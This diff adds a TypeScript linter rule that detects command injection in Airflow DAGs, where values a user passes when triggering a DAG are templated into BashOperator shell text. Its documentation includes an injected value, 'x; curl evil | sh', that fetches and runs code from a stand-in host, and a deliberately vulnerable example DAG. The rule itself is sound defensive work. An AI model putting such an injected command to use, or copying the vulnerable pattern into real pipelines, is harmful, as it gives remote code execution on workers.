@@ -1,0 +1,106 @@
+import type { DagFile, RemoteCall, Task } from "../airflow/dagfile.ts";
+import { shellTexts } from "../airflow/shellTexts.ts";
+import { codeInput, isOpen, templateInputs, type UserInput } from "../airflow/userInput.ts";
+import type { Script } from "../shell/script.ts";
+import { sourceSpan } from "../syntax/folded.ts";
+import type { Scope } from "../syntax/scope.ts";
+import type { Span } from "../text/span.ts";
+import { defineRule } from "./rule.ts";
+
+export default defineRule({
+  code: "TET603",
+  name: "user-input-in-shell",
+  group: "unsafe",
+  severity: "warning",
+  summary: "What a user gives when triggering the DAG becomes part of a shell command",
+  since: "0.1.0",
+  status: "stable",
+  profile: "recommended",
+  docs: {
+    why: `Airflow puts \`{{ dag_run.conf['table'] }}\` and \`{{ params.table }}\` into the text before the shell reads it, and escapes nothing: with \`x; curl evil | sh\` in the configuration, the task runs that too. Quotes around the template do not help, for the value may close them. Since Airflow 2.0 \`dag_run.conf\` overrides params (\`dag_run_conf_overrides_params\`), so a param without a schema takes any text as well. Everybody with the right to trigger the DAG, in the web interface or by the API, gets a shell on the worker, or on the host behind the operator.`,
+    bad: `from airflow import DAG
+from airflow.operators.bash import BashOperator
+
+with DAG("load") as dag:
+    load = BashOperator(task_id="load", bash_command="/opt/load --table {{ dag_run.conf['table'] }}")
+`,
+    good: `from airflow import DAG
+from airflow.operators.bash import BashOperator
+
+with DAG("load") as dag:
+    load = BashOperator(
+        task_id="load",
+        bash_command='/opt/load --table "$TABLE"',
+        env={"TABLE": "{{ dag_run.conf['table'] }}"},
+        append_env=True,
+    )
+`,
+    limits:
+      "Values that a schema restricts (a `Param` with enum, pattern, a checked format or another type than string), that pass an int, a quoting or an unknown filter, or that the text or the code tests first are left alone; so are a task's own params, which are meant as constants, though dag_run.conf overrides them too.",
+    links: [
+      "https://airflow.apache.org/docs/apache-airflow-providers-standard/stable/operators/bash.html",
+      "https://airflow.apache.org/docs/apache-airflow/stable/security/security_model.html",
+      "https://airflow.apache.org/docs/apache-airflow/stable/core-concepts/params.html",
+    ],
+  },
+  check(file, report) {
+    const seen = new Set<number>();
+    for (const { root, task, call, script } of shellTexts(file)) {
+      const inputs = [
+        ...(task ? fromTemplate(file, task, root) : []),
+        ...(call ? fromCode(file, root, call.scope, call) : []),
+        ...(task?.callable && script?.argument === "return"
+          ? fromCode(file, root, file.names.scopeOf(task.callable), undefined, task)
+          : []),
+      ];
+      // One text, one finding: at the worst place.
+      const [first, ...others] = [...inputs].sort((a, b) => rank(a) - rank(b) || a.span.start - b.span.start);
+      if (!first || seen.has(first.span.start)) continue;
+      seen.add(first.span.start);
+      const { input, span } = first;
+      const where = root.place === "remote" ? "the remote host" : "the worker";
+      const any = input.from === "params" ? " accepts any text" : " goes into this shell text as it is";
+      report({
+        span,
+        severity: input.from === "dag_run.conf" ? "error" : "warning",
+        message: `${input.shown}${any}: whoever may trigger the DAG can run any command on ${where}.`,
+        hint: hintFor(root, input, call),
+        ...(call ? { cause: call.call.span } : {}),
+        related: others
+          .filter((one) => one.span.start !== span.start)
+          .slice(0, 5)
+          .map((one) => ({ span: one.span, message: `so does ${one.input.shown}` })),
+      });
+    }
+  },
+});
+
+type Found = { readonly input: UserInput; readonly span: Span };
+
+function rank({ input }: Found): number {
+  return input.from === "dag_run.conf" ? 0 : 1;
+}
+
+function fromTemplate(file: DagFile, task: Task, root: Script): Found[] {
+  return templateInputs(file, task, root).map(({ input, hole }) => ({ input, span: sourceSpan(root.folded, hole) }));
+}
+
+/** f"/opt/load {params['table']}" in the code of a task; a list handed to a program without a shell is no text. */
+function fromCode(file: DagFile, root: Script, scope: Scope, call: RemoteCall | undefined, own?: Task): Found[] {
+  if (call?.command && "argv" in call.command && root.place === "worker") return [];
+  const tasks = own ? [own] : (call?.tasks ?? []);
+  return root.folded.holes.flatMap((hole): Found[] => {
+    const input = hole.expr && codeInput(file, hole.expr, scope);
+    if (!input || (input.key === undefined && input.from === "params")) return [];
+    if (tasks.length > 0 && !tasks.some((task) => isOpen(file, task, input))) return [];
+    return [{ input, span: sourceSpan(root.folded, hole) }];
+  });
+}
+
+function hintFor(root: Script, input: UserInput, call: RemoteCall | undefined): string {
+  const schema =
+    input.from === "params" ? "give the Param an enum or a pattern" : "check it by a Param with an enum or a pattern";
+  if (call) return `Quote it with shlex.quote(), or pass a list without a shell; or ${schema}.`;
+  if (root.place === "remote") return `Give ${input.shown} a schema: ${schema}.`;
+  return `Hand it over in env= and write "$VALUE" in the text; or ${schema}.`;
+}
